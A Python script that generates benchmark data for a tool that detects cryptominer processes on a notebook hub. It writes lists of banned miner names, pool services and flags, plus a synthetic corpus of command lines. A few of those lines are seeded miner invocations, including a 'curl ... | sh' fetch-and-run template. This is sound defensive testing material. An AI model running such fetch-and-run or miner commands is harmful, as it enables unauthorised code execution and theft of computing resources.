#!/usr/bin/python3
# SPDX-License-Identifier: BSD-2-Clause
"""corpus.py - deterministic benchmark inputs for bench/run.

Writes into OUTDIR:
  corpus.txt          command lines as hub users run them, one per line, the
                      arguments already joined by single spaces (matching works
                      on the joined line); no newline inside a line
  strings-1k.txt      banned strings, one per line (each list is a prefix of
  strings-10k.txt     the next: the real miner names and flags come first)
  strings-100k.txt
Usage: corpus.py OUTDIR [--seed N] [--lines N]
"""

import argparse
import os
import random
import string

B58 = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"

MINERS = [
    "xmrig", "xmr-stak", "xmr-stak-cpu", "minerd", "cpuminer", "cpuminer-multi",
    "cpuminer-opt", "ccminer", "ethminer", "nbminer", "t-rex", "lolminer",
    "phoenixminer", "nanominer", "teamredminer", "gminer", "srbminer",
    "srbminer-multi", "cgminer", "bfgminer", "sgminer", "claymore", "kawpowminer",
    "nheqminer", "xmrig-notls", "xmrig-cuda", "wildrig", "bminer", "miniz",
    "z-enemy", "rhminer", "cryptodredge", "hellminer", "verus-solver",
    "ethdcrminer64", "nsfminer", "moneroocean", "c3pool", "supportxmr",
    "nanopool", "2miners", "minexmr", "hashvault", "herominers", "unmineable",
]
MINER_FLAGS = [
    "--donate-level", "--cpu-priority", "--randomx-1gb-pages", "--coin=monero",
    "--algo=rx/0", "--cuda-loader", "--opencl-platform", "--nicehash",
    "stratum+tcp", "stratum+ssl", "stratum2+tcp", "--rig-id", "--max-cpu-usage",
]
# Banned random words and the words users type come from different
# syllables, so ordinary lines only hit banned strings by accident.
SYLL = ["ka", "ro", "mi", "ne", "zu", "ta", "lo", "pe", "qui", "sha", "dro",
        "vel", "tor", "an", "ix", "um", "bri", "gle", "xo", "dax", "fen", "ory",
        "ba", "ci", "du", "fo", "gy", "hu", "jo", "ke", "li", "mo", "nu", "pi",
        "ra", "se", "ti", "vo", "wa", "ze"]
USER_SYLL = ["data", "plot", "test", "fix", "model", "run", "new", "old", "lab",
             "ex", "hw", "proj", "final", "v2", "tmp", "report", "clean", "load"]


def word(rng, lo=2, hi=5):
    # at least 5 bytes: a shorter banned word would hit ordinary text
    while True:
        w = "".join(rng.choice(SYLL) for _ in range(rng.randint(lo, hi)))
        if len(w) >= 5:
            return w


def uword(rng, lo=1, hi=3):
    return "".join(rng.choice(USER_SYLL) for _ in range(rng.randint(lo, hi)))


def wallet(rng):
    return "4" + "".join(rng.choice(B58) for _ in range(94))


def hexs(rng, n):
    return "".join(rng.choice("0123456789abcdef") for _ in range(n))


def banned_strings(rng, n):
    """Realistic mix, average ~16 bytes: binary names, pool hosts, flags,
    95-char wallet-like strings and random words."""
    out, seen = [], set()

    def add(s):
        k = s.casefold()
        if k in seen:
            return False
        seen.add(k)
        out.append(s)
        return True

    for s in MINERS + MINER_FLAGS:
        add(s)
    kinds = ["host"] * 19 + ["word"] * 45 + ["flag"] * 14 + ["bin"] * 19 + ["wallet"] * 3
    gen = {
        "host": lambda: "pool-%s.%s" % (hexs(rng, rng.randint(4, 8)),
                                        rng.choice(["example-pool.net", "mine.example.org",
                                                    "xmr.example.com", "hash.example.io"])),
        "word": lambda: word(rng),
        "flag": lambda: "--%s-%s" % (word(rng, 1, 2), word(rng, 1, 2)),
        "bin": lambda: rng.choice(MINERS) + rng.choice(["-", "_", ""]) + word(rng, 1, 2),
        "wallet": lambda: wallet(rng),
    }
    while len(out) < n:
        # retry the same kind on a duplicate so the mix stays as weighted
        k = rng.choice(kinds)
        while not add(gen[k]()):
            pass
    return out[:n]


PKGS = ["numpy", "pandas", "scipy", "matplotlib", "scikit-learn", "torch",
        "torchvision", "tensorflow", "jupyterlab", "ipywidgets", "seaborn",
        "xarray", "dask", "distributed", "requests", "beautifulsoup4", "lxml",
        "sqlalchemy", "psycopg2-binary", "pyarrow", "polars", "numba", "sympy",
        "networkx", "plotly", "bokeh", "altair", "statsmodels", "xgboost",
        "lightgbm", "transformers", "datasets", "accelerate", "opencv-python",
        "pillow", "h5py", "netcdf4", "cartopy", "geopandas", "shapely",
        "nbconvert", "black", "ruff", "pytest", "mypy", "pre-commit", "tqdm"]
NPM = ["react", "react-dom", "webpack", "typescript", "eslint", "@types/node",
       "vite", "express", "lodash", "axios", "jest", "prettier", "next", "d3"]
USERS = ["jovyan", "alice", "bob", "student42", "prof-lee", "ta_cho", "kim"]


def pyscript(rng, size):
    stmts = [
        "import numpy as np", "import pandas as pd", "df = pd.read_csv('data.csv')",
        "print(df.describe())", "x = np.linspace(0, 1, 1000)",
        "for i in range(10): print(i, i * i)", "import json, sys",
        "d = json.load(open('/home/jovyan/config.json'))",
        "print(sum(v for v in d.values() if isinstance(v, int)))",
        "import subprocess; subprocess.run(['ls', '-la'])",
        "from sklearn.linear_model import LinearRegression",
        "m = LinearRegression().fit(X, y)", "print(m.coef_, m.intercept_)",
    ]
    parts = []
    while sum(len(p) + 2 for p in parts) < size:
        parts.append(rng.choice(stmts))
        if rng.random() < 0.2:
            parts.append("s = %r" % "".join(rng.choice(string.ascii_letters + " ")
                                              for _ in range(rng.randint(20, 200))))
    return "; ".join(parts)


def cmdline(rng, banned):
    r = rng.random()
    user = rng.choice(USERS)
    home = "/home/" + user
    py = rng.choice(["/opt/conda/bin/python", "/usr/bin/python3", "python",
                     "/srv/conda/envs/notebook/bin/python"])
    if r < 0.28:
        return ("%s -m ipykernel_launcher -f %s/.local/share/jupyter/runtime/"
                "kernel-%s-%s-%s-%s-%s.json" % (py, home, hexs(rng, 8), hexs(rng, 4),
                                                hexs(rng, 4), hexs(rng, 4), hexs(rng, 12)))
    if r < 0.38:
        pk = ["%s==%d.%d.%d" % (p, rng.randint(0, 3), rng.randint(0, 30), rng.randint(0, 9))
              if rng.random() < 0.4 else p
              for p in rng.sample(PKGS, rng.randint(1, 25))]
        return "%s %s install %s%s" % (py, "/opt/conda/bin/pip" if "conda" in py else "-m pip",
                                       rng.choice(["", "--user ", "-U ", "--no-cache-dir "]),
                                       " ".join(pk))
    if r < 0.43:
        pk = rng.sample(PKGS, rng.randint(1, 15))
        return "/opt/conda/bin/%s install -y -c conda-forge %s" % (
            rng.choice(["conda", "mamba"]), " ".join(pk))
    if r < 0.48:
        return "node /usr/lib/node_modules/npm/bin/npm-cli.js install %s" % " ".join(
            rng.sample(NPM, rng.randint(1, 10)))
    if r < 0.58:
        g = rng.random()
        if g < 0.4:
            return "git clone https://github.com/%s/%s.git" % (uword(rng), uword(rng))
        if g < 0.7:
            return "git commit -m %s" % " ".join(uword(rng) for _ in range(rng.randint(2, 20)))
        return rng.choice(["git status", "git pull --rebase", "git push origin main",
                           "git log --oneline -n 20", "git diff HEAD~1"])
    if r < 0.68:
        if rng.random() < 0.5:
            return "make -j%d -C %s/src/%s all" % (rng.randint(1, 16), home, uword(rng))
        src = uword(rng)
        return ("gcc -O2 -g -Wall -Wextra -std=c11 -I%s/include -I/usr/local/include "
                "-DNDEBUG -fPIC -c %s.c -o build/%s.o" % (home, src, src))
    if r < 0.74:
        # long inline scripts, some with 2-8 KiB arguments
        size = rng.randint(2048, 8192) if rng.random() < 0.5 else rng.randint(60, 600)
        return '%s -c "%s"' % (py, pyscript(rng, size))
    if r < 0.84:
        return "/bin/bash -c %s" % rng.choice([
            "cat %s/data/*.csv | grep -v '^#' | awk -F, '{s+=$3} END {print s}'" % home,
            "find %s -name '*.ipynb' -mtime -1 | xargs -r ls -la" % home,
            "ps aux | sort -k3 -rn | head -20",
            "tar czf /tmp/%s.tgz %s/work && ls -la /tmp" % (uword(rng), home),
            "curl -sSL https://example.org/%s.sh | head -c 2000" % uword(rng),
            "du -sh %s/* 2>/dev/null | sort -h | tail -5" % home,
        ])
    if r < 0.87:
        return ("%s /opt/conda/bin/jupyterhub-singleuser --ip=0.0.0.0 --port=8888 "
                "--NotebookApp.default_url=/lab --SingleUserNotebookApp.hub_api_url="
                "http://hub:8081/hub/api" % py)
    if r < 0.98:
        cmd = rng.choice([
            "ls -la", "top -b -n 1", "vim notebook.py", "htop", "ssh-agent -s",
            "sleep 60", "cat /proc/cpuinfo", "nvidia-smi", "/usr/bin/tini -g -- start.sh",
            "node /opt/conda/share/jupyter/lab/staging/node_modules/.bin/webpack",
            "/usr/lib/R/bin/exec/R --no-echo --no-restore --file=analysis.R",
            "code-server --bind-addr 0.0.0.0:8080 %s" % home,
        ])
        return " ".join([cmd] + [uword(rng) for _ in range(rng.randint(0, 4))])
    # ~2%: miner lines with banned strings, some glued to word bytes
    b = rng.choice(banned[:200])
    return rng.choice([
        "./%s -o stratum+tcp://pool-%s.example-pool.net:3333 -u %s --donate-level 1" % (
            b, hexs(rng, 6), wallet(rng)),
        "/tmp/.x/%s --threads %d --cpu-priority 5" % (b, rng.randint(1, 64)),
        "nohup %s/%s_build/run -c config.json" % (home, b),
        "bash -c curl -s https://example.org/%s.sh | sh" % b,
    ])


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("outdir")
    ap.add_argument("--seed", type=int, default=20240601)
    ap.add_argument("--lines", type=int, default=20000)
    args = ap.parse_args()
    rng = random.Random(args.seed)
    os.makedirs(args.outdir, exist_ok=True)
    banned = banned_strings(rng, 100000)
    for n, name in ((1000, "1k"), (10000, "10k"), (100000, "100k")):
        with open(os.path.join(args.outdir, "strings-%s.txt" % name), "w") as f:
            f.write("\n".join(banned[:n]) + "\n")
    with open(os.path.join(args.outdir, "corpus.txt"), "w") as f:
        for _ in range(args.lines):
            f.write(cmdline(rng, banned).replace("\n", " ") + "\n")


if __name__ == "__main__":
    main()
